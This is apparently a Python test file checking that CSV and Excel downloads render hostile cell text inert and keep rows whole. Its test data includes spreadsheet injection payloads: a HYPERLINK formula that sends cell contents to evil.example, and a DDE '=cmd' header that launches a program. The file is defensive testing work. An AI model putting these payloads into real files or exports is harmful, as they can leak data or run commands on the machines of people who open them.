"""Downloads are safe to open: hostile text never becomes a formula or splits a row."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from store.tables import table_bytes, write_table, write_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-3.5",  # text that looks like a number: still text
    "two\rlines",
    "three\nlines",
    "东泉村",
]


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "name": HOSTILE,
            "value": [-3.5, 1.0, -2.0, 0.0, 4.5, 5.0, 6.0, 7.0, 8.0, 9.0],
            "count": list(range(-5, 5)),
            "=cmd|' /C calc'!A0": ["x"] * len(HOSTILE),
        }
    )


def inert(text: str) -> str:
    return "'" + text if text.startswith(("=", "+", "-", "@", "\t", "\r")) else text


def test_csv_cells_are_inert_and_rows_whole(tmp_path):
    frame = hostile_frame()
    data = table_bytes(frame, ".csv")
    assert data == write_table(frame, tmp_path / "t.csv").read_bytes()
    back = pd.read_csv(io.BytesIO(data), keep_default_na=False)
    assert len(back) == len(frame)
    assert list(back["name"]) == [inert(t) for t in HOSTILE]
    assert list(back.columns) == ["name", "value", "count", "'=cmd|' /C calc'!A0"]
    assert list(back["value"]) == [-3.5, 1.0, -2.0, 0.0, 4.5, 5.0, 6.0, 7.0, 8.0, 9.0]
    assert list(back["count"]) == list(range(-5, 5))  # negative numbers stay numbers
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert len(rows) == len(frame) + 1
    assert [r[0] for r in rows[1:]] == [inert(t) for t in HOSTILE]
    assert rows[1][1] == "-3.5"
    text_cells = [rows[0][3]] + [cell for r in rows[1:] for cell in (r[0], r[3])]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in text_cells)
    header, first = data.decode("utf-8").split("\n")[:2]
    assert header == '"name","value","count","\'=cmd|\' /C calc\'!A0"'  # every field quoted
    assert first.startswith('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")","-3.5","-5"')


def test_workbook_cells_are_text_never_formulas(tmp_path):
    frame = hostile_frame()
    book = load_workbook(write_table(frame, tmp_path / "t.xlsx"))
    sheet = book["data"]
    assert sheet.max_row == len(frame) + 1
    header = [c.value for c in sheet[1]]
    assert header == list(frame.columns)
    assert sheet["D1"].data_type == "s"
    assert sheet["D1"].quotePrefix
    for row, text in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row=row, column=1)
        assert cell.data_type == "s", (text, cell.data_type)
        assert cell.value.replace("\r", "\n") == text.replace("\r", "\n")  # XML keeps no \r
        assert cell.quotePrefix == text.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert sheet["B2"].value == pytest.approx(-3.5)
    assert sheet["B2"].data_type == "n"
    assert sheet["C2"].value == -5


def test_control_characters_do_not_break_a_workbook(tmp_path):
    frame = pd.DataFrame({"name": ["站\x01A", "ok"]})
    sheet = load_workbook(write_workbook({"s": frame}, tmp_path / "w.xlsx"))["s"]
    assert [c.value for c in sheet["A"]] == ["name", "站\ufffdA", "ok"]
